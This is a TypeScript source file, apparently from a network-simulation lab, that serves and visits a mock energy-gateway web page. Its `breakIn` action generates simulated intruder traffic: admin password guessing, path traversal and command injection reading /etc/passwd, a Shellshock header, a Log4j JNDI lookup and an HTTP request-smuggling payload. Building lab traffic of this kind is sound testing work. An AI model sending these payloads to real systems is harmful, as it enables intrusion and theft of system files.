/**
 * The web page of a device, as gateways and drives have one, served and visited by node:http: a login by Basic, values, settings, an image of its firmware. Any host may have one or visit
 * one; all are silent until the lab says so. `breakIn` asks as intruders do.
 */
import { once } from "node:events";
import { Agent, createServer, type IncomingMessage, request, type Server, type ServerResponse } from "node:http";
import { connect } from "node:net";
import type { Actions, Arguments, HostContext } from "./host.ts";

const PORT = 80;
const PATIENCE = 2000;
const SOFTWARE = "GoAhead-Webs/2.5.0";
const PAGE = "<html><title>Energy gateway</title><body>Meter 11: 412.6 kW</body></html>\n";
const FIRMWARE = Buffer.alloc(6000, "firmware of the energy gateway ");

/** What intruders ask for: files of the system, a command behind a value, faults of bash and of Log4j. */
const TRIES: readonly (readonly [path: string, agent: string])[] = [
	["/../../../../etc/passwd", "scan/1.0"],
	["/cgi-bin/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "scan/1.0"],
	["/cgi-bin/status", "() { :;}; /bin/cat /etc/passwd"],
	[`/?name=${"$"}{jndi:ldap://10.20.0.66/a}`, "scan/1.0"],
];
/** Two lengths: what a proxy takes for a body, the server behind it takes for another request. */
const SMUGGLED = "POST /status HTTP/1.1\r\nHost: gateway\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG";

export function webActions(context: HostContext): Actions {
	let server: Server | undefined;
	return {
		/** Serves the page to who knows the password. */
		openPage: async (args) => {
			const right = `Basic ${Buffer.from(`${args.user}:${args.password}`).toString("base64")}`;
			server = createServer((asked, answer) => serve(asked, answer, right));
			server.listen(PORT, context.ip);
			await once(server, "listening");
		},
		closePage: () => {
			server?.closeAllConnections();
			server?.close();
		},
		/** Visits it as a person does: asked to log in, logged in, values, settings, firmware; all over one connection. */
		visitPage: async (args) => {
			const agent = new Agent({ keepAlive: true, maxSockets: 1 });
			const authorization = `Basic ${Buffer.from(`${args.user}:${args.password}`).toString("base64")}`;
			const ask = (method: string, path: string, headers: Record<string, string> = {}, body?: string) =>
				visit(context, args, agent, method, path, { "user-agent": BROWSER, ...headers }, body);
			const statuses = [
				await ask("GET", "/"),
				await ask("GET", "/", { authorization }),
				await ask("GET", "/values?meter=11", { authorization }),
				await ask("POST", "/settings", { authorization, "content-type": "application/x-www-form-urlencoded" }, "interval=10"),
				await ask("HEAD", "/firmware/gateway-2.4.bin", { authorization }),
				await ask("GET", "/firmware/gateway-2.4.bin", { authorization }),
				await ask("GET", "/nothing", { authorization }),
			];
			agent.destroy();
			return statuses;
		},
		/** Opens it, and is asked to log in. */
		lookAtPage: (args) => visit(context, args, false, "GET", "/", { "user-agent": BROWSER }),
		/** Guesses a password, and asks for what no page offers. */
		breakIn: async (args) => {
			const statuses: number[] = [];
			for (const password of args.passwords as string[]) {
				const authorization = `Basic ${Buffer.from(`admin:${password}`).toString("base64")}`;
				statuses.push(await visit(context, args, false, "GET", "/", { authorization, "user-agent": "scan/1.0" }));
			}
			for (const [path, agent] of TRIES) statuses.push(await visit(context, args, false, "GET", path, { "user-agent": agent }));
			const socket = connect({ host: context.address(String(args.host)), port: PORT });
			socket.on("error", () => {});
			socket.setTimeout(PATIENCE, () => socket.destroy());
			socket.write(SMUGGLED);
			await once(socket, "data");
			socket.destroy();
			return statuses;
		},
	};
}

const BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0";

function serve(asked: IncomingMessage, answer: ServerResponse, right: string): void {
	const head = { server: SOFTWARE, date: "" };
	asked.resume();
	asked.on("end", () => {
		if (asked.headers.authorization !== right)
			answer.writeHead(401, { ...head, "www-authenticate": 'Basic realm="Energy gateway EG-200"' }).end("Log in.\n");
		else if (asked.url === "/settings") answer.writeHead(204, head).end();
		else if (asked.url?.startsWith("/firmware/"))
			answer.writeHead(200, { ...head, "content-type": "application/octet-stream", "content-length": FIRMWARE.length }).end(FIRMWARE);
		else if (asked.url === "/" || asked.url?.startsWith("/values"))
			answer.writeHead(200, { ...head, "content-type": "text/html" }).end(PAGE); // without a length: in chunks
		else answer.writeHead(404, { ...head, "content-length": 0 }).end();
	});
}

async function visit(
	context: HostContext,
	args: Arguments,
	agent: Agent | false,
	method: string,
	path: string,
	headers: Record<string, string>,
	body?: string,
): Promise<number> {
	const host = context.address(String(args.host));
	const asked = request({ host, port: PORT, method, path, headers, agent, timeout: PATIENCE });
	if (body !== undefined) asked.write(body);
	asked.end();
	const [answer] = (await once(asked, "response")) as [IncomingMessage];
	for await (const _ of answer);
	return answer.statusCode ?? 0;
}
